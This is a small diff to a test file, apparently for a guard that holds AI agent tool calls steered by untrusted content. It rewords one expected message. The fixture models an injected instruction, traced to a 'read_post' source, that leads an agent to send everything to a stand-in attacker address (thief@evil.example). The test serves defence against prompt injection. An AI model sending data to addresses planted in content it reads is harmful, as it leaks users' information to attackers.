@@ -82,7 +82,7 @@ def test_what_was_held_is_shown_with_why() -> None:
         {"to": "thief@evil.example", "body": "all"},
         ("steered-effect",),
     )
-    assert call["requestable"] and "untrusted data chose" in call["message"]
+    assert call["requestable"] and "untrusted text chose" in call["message"]
     assert call["origins"] == [{"argument": "to", "value": "thief@evil.example", "origin": "untrusted", "source": "read_post"}]
 
 
